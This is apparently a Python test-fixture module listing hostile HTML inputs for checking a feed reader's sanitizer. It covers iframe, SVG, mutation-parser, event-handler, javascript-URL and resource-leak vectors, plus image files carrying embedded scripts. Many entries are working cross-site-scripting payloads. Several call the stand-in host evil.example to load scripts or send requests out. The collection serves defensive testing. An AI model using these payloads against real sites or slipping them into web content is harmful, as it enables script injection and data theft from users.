"""What hostile outlets and visitors send, written for this project: the families of published faults in readers of feeds.

Each sets window.ran, opens a dialogue or asks evil.example when it works.
"""
RUN = "window.ran=1"

FRAMES = [
    f'<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
    f'<iframe srcdoc="&lt;img src=x onerror=&quot;parent.ran=1&quot;&gt;"></iframe>',
    '<iframe src="javascript:parent.ran=1"></iframe>',
    f'<iframe><p title="</iframe><img src=x onerror={RUN}>"></iframe>',
    f'<noframes><p title="</noframes><script>{RUN}</script>"></noframes>',
    '<object data="data:text/html,<script>parent.ran=1</script>"></object>',
    '<embed src="//evil.example/x.swf">',
    '<portal src="//evil.example/"></portal>',
    '<frameset onload=window.ran=1><frame src=//evil.example/></frameset>',
]
SVG = [
    f'<svg onload={RUN}></svg>',
    f'<svg><script>{RUN}</script></svg>',
    f'<svg><script href="data:text/javascript,{RUN}"/></svg>',
    f'<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>',
    f'<svg><set attributeName=onmouseover to={RUN}></svg>',
    f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text x=20 y=20>go</text></a></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text x=20 y=20>go</text></a></svg>',
    f'<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=window.ran=1 /></svg>#x"/></svg>',
    '<svg><style>@import "//evil.example/x.css";</style></svg>',
    f'<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload={RUN}>">',
]
MUTATION = [
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<select><style><img src=x onerror={RUN}></style></select>',
    f'<select><option><style></option></select><img src=x onerror={RUN}></style>',
    f'<option><style></option></select><b><img src=x onerror={RUN}></style></option>',
    f'<textarea></textarea><img src=x onerror={RUN}></textarea>',
    f'<title><!--</title><img src=x onerror={RUN}>--></title>',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f'<!--><img src=x onerror={RUN}>-->',
    f'<!--!><img src=x onerror={RUN}>--!>',
    f'<![CDATA[><img src=x onerror={RUN}>]]>',
    f'<template><script>{RUN}</script></template><template shadowrootmode=open><img src=x onerror={RUN}></template>',
]
HANDLERS = [
    f'<img src=x onerror={RUN}>', f'<img src=x OnErRoR="{RUN}">', f'<img/src=x/onerror={RUN}>',
    f'<img src=x\nonerror\n=\n"{RUN}">', f'<body onload={RUN}>', f'<details open ontoggle={RUN}><summary>x</summary></details>',
    f'<input autofocus onfocus={RUN}>', f'<video><source onerror={RUN}></video>', f'<audio src=x onerror={RUN}></audio>',
    f'<marquee onstart={RUN}>x</marquee>', f'<p onmouseover={RUN} onclick={RUN} style="position:fixed;inset:0">all over</p>',
    f'<a href=x onpointerenter={RUN} onfocus={RUN} autofocus tabindex=1>x</a>',
    f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart={RUN}>x</b>',
    f'"><img src=x onerror={RUN}>', f"' onmouseover='{RUN}", f'` onerror={RUN} `',
    f'<a href="https://a.example/&quot; onmouseover=&quot;{RUN}">x</a>',
]
ADDRESSES = [
    f'<a href="javascript:{RUN}">x</a>', f'<a href="JaVaScRiPt:{RUN}">x</a>', f'<a href="java\tscript:{RUN}">x</a>',
    f'<a href="java&#10;script:{RUN}">x</a>', f'<a href=" &#1; javascript:{RUN}">x</a>', f'<a href="javascript&colon;{RUN}">x</a>',
    f'<a href="&#106;&#97;vascript:{RUN}">x</a>', f'<a href="javascript://a.example/%0a{RUN}">x</a>',
    '<a href="data:text/html,<script>opener.ran=1</script>">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>', '<a href="file:///etc/passwd">x</a>', '<a href="blob:https://a.example/1">x</a>',
    '<a href="https:\\\\evil.example">x</a>',
    f'<img srcset="http:a<script>{RUN}</script> 1x" src=x>', f'<img srcset=", javascript:{RUN} 2x">',
    '<a href="https://a.example" ping="//evil.example/ping">x</a>',
]
LEAVING = [
    '<meta http-equiv=refresh content="0;url=//evil.example/">', '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">', '<link rel=prefetch href="//evil.example/x">',
    '<form action="//evil.example/" id=f><button>send</button></form><button form=f>send</button>',
    f'<button formaction="javascript:{RUN}">x</button>', '<style>body{background:url(//evil.example/x)}</style>',
    '<p style="background:url(//evil.example/x)">x</p>', '<img src="//evil.example/pixel.gif">',
    '<video poster="//evil.example/p.png" autoplay src="//evil.example/v.mp4"></video>',
    '<table background="//evil.example/x.png"><tr><td>x</table>', '<script src="//evil.example/x.js"></script>',
    f'<script>{RUN}</script>', f'</script><script>{RUN}</script>', f'<script type=application/ld+json>{{"a":"</script><script>{RUN}</script>"}}</script>',
    f'<<script>{RUN}//<</script>', f'<scr<script>ipt>{RUN}</scr</script>ipt>', f'\u00bcscript\u00be{RUN}\u00bc/script\u00be',
    '{{constructor.constructor("window.ran=1")()}}', '\u202eesrever <b>\u2066',
]

VECTORS = FRAMES + SVG + MUTATION + HANDLERS + ADDRESSES + LEAVING

# Pictures that are programs: what the outlet says they are, and their bytes. Only what begins as a picture does can be kept.
PAGE = f"<script>{RUN}</script><img src=//evil.example/x.png>".encode()
PICTURES = [
    ("image/svg+xml", f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{RUN}"/>'.encode()),
    ("image/png", f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>{RUN}</script></svg>'.encode()),
    ("image/jpeg", b"<!DOCTYPE html>" + PAGE),
    ("image/gif", b"GIF89a" + bytes([0x80, 2, 0xe0, 1, 0, 0, 0]) + PAGE),
    ("text/html", b"GIF89a" + bytes([0x80, 2, 0xe1, 1, 0, 0, 0]) + PAGE),
    ("image/svg+xml", bytes.fromhex("89504e470d0a1a0a0000000d4948445200000280000001e00802000000") + PAGE),
    ("image/webp", b"RIFF\x30\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\x7f\x02\0\xdf\x01\0" + PAGE),
]
